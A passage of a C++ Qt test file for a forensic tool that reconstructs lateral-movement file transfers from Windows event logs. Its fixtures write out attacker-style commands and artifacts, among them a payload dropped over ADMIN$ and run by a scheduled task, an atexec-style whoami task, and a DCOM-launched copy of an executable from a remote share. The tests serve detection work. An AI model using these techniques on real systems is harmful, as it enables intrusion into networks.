                       .arg(c.push ? "push" : "pull", QString::fromStdString(c.session), QString::fromStdString(c.path),
                           QString::fromStdString(c.destination));
        QCOMPARE(got.join(QStringLiteral("; ")), expected);
    }

    void sessionComputer_data()
    {
        QTest::addColumn<QString>("script");
        QTest::addColumn<QString>("expected");
        QTest::newRow("named") << "$s = New-PSSession -ComputerName WS6 -Credential $c"
                               << "WS6";
        QTest::newRow("positional") << "$s = New-PSSession fs01.corp.local"
                                    << "fs01.corp.local";
        QTest::newRow("no blanks") << "$s=New-PSSession -cn:WS7"
                                   << "WS7";
        QTest::newRow("other variable") << "$t = New-PSSession -ComputerName WS6"
                                        << "";
        QTest::newRow("last wins") << "$s = New-PSSession WS6\n$s = New-PSSession WS7"
                                   << "WS7";
        QTest::newRow("not a session") << "$s = Get-Item C:\\x"
                                       << "";
    }

    void sessionComputer()
    {
        QFETCH(QString, script);
        QFETCH(QString, expected);
        QCOMPARE(QString::fromStdString(inference::CommandParser::sessionComputer(
                     script.replace(QStringLiteral("\\n"), QStringLiteral("\n")).toStdString(), "$s")),
            expected);
    }

    // A file pushed over ADMIN$, then a task created from the same address runs it.
    void taskRunsDroppedFile()
    {
        QByteArray b;
        b += logon(kDst, at(10), kAttackerIp, 50100, "0x7000");
        b += shareCheck(kDst, at(11), kAttackerIp, 50100, "0x7000", "\\\\*\\ADMIN$", "\\??\\C:\\Windows",
            "Temp\\payload.exe", "0x2");
        b += logon(kDst, at(12), kAttackerIp, 50101, "0x7001");
        b += taskCreated(at(12.1), "0x7001", "%windir%\\Temp\\payload.exe", "-q");
        // atexec's own task names no transferred file; a task of another address proves nothing.
        b += taskCreated(at(12.2), "0x7001", "cmd.exe", "/C whoami > C:\\Windows\\Temp\\abcdefgh.tmp 2>&1");
        auto cs = makeCase(b);
        QVERIFY(cs);
        const auto rows = infer(*cs);
        QCOMPARE(rows.size(), size_t(1));
        QCOMPARE(rows[0].path, std::string("C:\\Windows\\Temp\\payload.exe"));
        QCOMPARE(rows[0].rules, std::string("smb-share-write,task-drop"));
        QCOMPARE(roles(*cs, rows[0].id), (QStringList {"dst-logon", "dst-task", "dst-write"}));
        QCOMPARE(cs->db().queryInt("SELECT count(*) FROM transfer_evidence WHERE role='dst-task'"), int64_t(1));
    }

    void taskOfAnotherSessionIsNoEvidence()
    {
        QByteArray b;
        b += logon(kDst, at(10), kAttackerIp, 50100, "0x7000");
        b += shareCheck(kDst, at(11), kAttackerIp, 50100, "0x7000", "\\\\*\\ADMIN$", "\\??\\C:\\Windows",
            "Temp\\payload.exe", "0x2");
        b += logon(kDst, at(12), "10.1.1.9", 50300, "0x7002");
        b += taskCreated(at(12.1), "0x7002", "C:\\Windows\\Temp\\payload.exe", "");
        auto cs = makeCase(b);
        QVERIFY(cs);
        const auto rows = infer(*cs);
        QCOMPARE(rows.size(), size_t(1));
        QCOMPARE(rows[0].rules, std::string("smb-share-write"));
    }

    // A copy started through DCOM (MMC20.Application: mmc.exe -Embedding runs cmd): a copy command
    // pulling from a share, with the DCOM host as its parent.
    void dcomLaunchedCopy()
    {
        QByteArray b;
        b += process(kDst, at(10), "{00000000-0000-0000-0000-000000000001}", 100, "C:\\Windows\\System32\\mmc.exe",
            "C:\\Windows\\system32\\mmc.exe -Embedding", "CORP\\admin", "0x7000", "C:\\Windows\\System32\\svchost.exe");
        b += process(kDst, at(11), "{00000000-0000-0000-0000-0000000000d1}", 200, "C:\\Windows\\System32\\cmd.exe",
            "cmd.exe /c copy \\\\WS5\\tools\\agent.exe C:\\Windows\\Temp\\agent.exe", "CORP\\admin", "0x7000",
            "C:\\Windows\\System32\\mmc.exe");
        auto cs = makeCase(b);
        QVERIFY(cs);
        const auto rows = infer(*cs);
        QCOMPARE(rows.size(), size_t(1));
        QCOMPARE(rows[0].source, std::string("WS5"));
        QCOMPARE(rows[0].destination, std::string("WS6"));
        QCOMPARE(rows[0].path, std::string("C:\\Windows\\Temp\\agent.exe"));
        QCOMPARE(rows[0].direction, std::string("pull"));
        QCOMPARE(rows[0].rules, std::string("source-command"));
        QCOMPARE(roles(*cs, rows[0].id), (QStringList {"dst-command", "dst-parent"}));
    }

    // Windows OpenSSH: sshd's and sftp-server's lines as OpenSSH/Operational events (process +
    // payload), read like syslog lines; sftp-server names files as /C:/...
    void windowsOpenSshSftpPush()
    {
        auto ssh = [](double t, const char *process, const char *payload) {
            return fixtures::event(
                kDst, 4, at(t), "OpenSSH/Operational", "OpenSSH", {{"process", s(process)}, {"payload", s(payload)}});
        };
        QByteArray b;
        b += ssh(10, "sshd", "Accepted password for admin from 10.1.1.5 port 50022 ssh2");
        b += ssh(11, "sftp-server", "session opened for local user admin from [10.1.1.5]");
        b += ssh(12, "sftp-server", "open \"/C:/Users/admin/agent.exe\" flags WRITE,CREATE,TRUNCATE mode 0666");
        b += ssh(12.5, "sftp-server", "close \"/C:/Users/admin/agent.exe\" bytes read 0 written 32256");
        b += ssh(13, "sshd.exe", "Server listening on :: port 22.");
        auto cs = makeCase(b);
        QVERIFY(cs);
        const auto rows = infer(*cs);
        QCOMPARE(rows.size(), size_t(1));
        QCOMPARE(rows[0].source, std::string(kAttackerIp));
        QCOMPARE(rows[0].destination, std::string("WS6"));
        QCOMPARE(rows[0].file, std::string("agent.exe"));
        QCOMPARE(rows[0].path, std::string("C:\\Users\\admin\\agent.exe"));
        QCOMPARE(rows[0].method, std::string("sftp"));
        QCOMPARE(rows[0].direction, std::string("push"));
        QCOMPARE(rows[0].account, std::string("WS6\\admin"));
    }

    // Anonymous NTLM null sessions name the workstation "NULL": no host of that name, no binding.
    void nullWorkstationIsNoHost()
    {
        QByteArray b = security(kDst, 4624, at(10),
            {{"TargetUserName", s("ANONYMOUS LOGON")}, {"TargetDomainName", s("NT AUTHORITY")},
                {"TargetLogonId", s("0x17e29a")}, {"LogonType", s("3")}, {"IpAddress", s(kAttackerIp)},
                {"IpPort", s("49236")}, {"AuthenticationPackageName", s("NTLM")}, {"WorkstationName", s("NULL")}});
        b += shareRead(at(11), kAttackerIp, "0x7000", "\\\\*\\C$", "\\??\\C:\\", "__output");
        auto cs = makeCase(b);
        QVERIFY(cs);
        const auto rows = infer(*cs);
        QCOMPARE(cs->db().queryInt("SELECT count(*) FROM host_names WHERE upper(name)='NULL'"), int64_t(0));
        QCOMPARE(cs->db().queryInt("SELECT count(*) FROM host_addresses WHERE how='4624-workstation'"), int64_t(0));
        QCOMPARE(rows.size(), size_t(1));
        QCOMPARE(rows[0].destination, std::string(kAttackerIp));
    }

    // The payload reader of records no table normalises, on each stored payload format.
    void payloadField_data()
    {
        QTest::addColumn<int>("format");
        QTest::addColumn<QString>("payload");
        QTest::addColumn<QString>("name");
        QTest::addColumn<QString>("expected");
        QTest::newRow("rendered") << 1
                                  << "{\"System\":{\"EventID\":\"59\"},\"EventData\":[[\"url\",\"http://h/a.exe\"]]}"
                                  << "url"
                                  << "http://h/a.exe";
        QTest::newRow("nxlog") << 2 << "{\"EventID\":59,\"url\":\"http://h/a.exe\"}"
                               << "url"
                               << "http://h/a.exe";
        QTest::newRow("winlogbeat") << 2 << "{\"winlog\":{\"event_data\":{\"url\":\"http://h/a.exe\"}}}"
                                    << "url"
                                    << "http://h/a.exe";
        QTest::newRow("evtxecmd") << 2
                                  << "{\"Payload\":\"{\\\"EventData\\\":{\\\"Data\\\":[{\\\"@Name\\\":\\\"url\\\",\\\"#"
                                     "text\\\":\\\"http://h/a.exe\\\"}]}}\"}"
                                  << "url"
                                  << "http://h/a.exe";
        QTest::newRow("xml") << 3
                             << "<Event><EventData><Data Name=\"name\">j</Data><Data "
                                "Name=\"url\">http://h/&lt;a&gt;.exe</Data></EventData></Event>"
                             << "url"
                             << "http://h/<a>.exe";
        QTest::newRow("xml user data") << 3 << "<Event><UserData><W><TaskName>\\t</TaskName></W></UserData></Event>"
                                       << "TaskName"
                                       << "\\t";
        QTest::newRow("absent") << 1 << "{\"EventData\":[[\"a\",\"b\"]]}"
                                << "url"
                                << "";
        QTest::newRow("not json") << 2 << "not json"
                                  << "url"
                                  << "";
    }

    void payloadField()
    {
        QFETCH(int, format);
        QFETCH(QString, payload);
        QFETCH(QString, name);
        QFETCH(QString, expected);
        QCOMPARE(
            QString::fromStdString(store::payloadField(format, payload.toStdString(), name.toStdString())), expected);
    }
};

QTEST_GUILESS_MAIN(TstInferenceWinproc)
#include "tst_inference_winproc.moc"
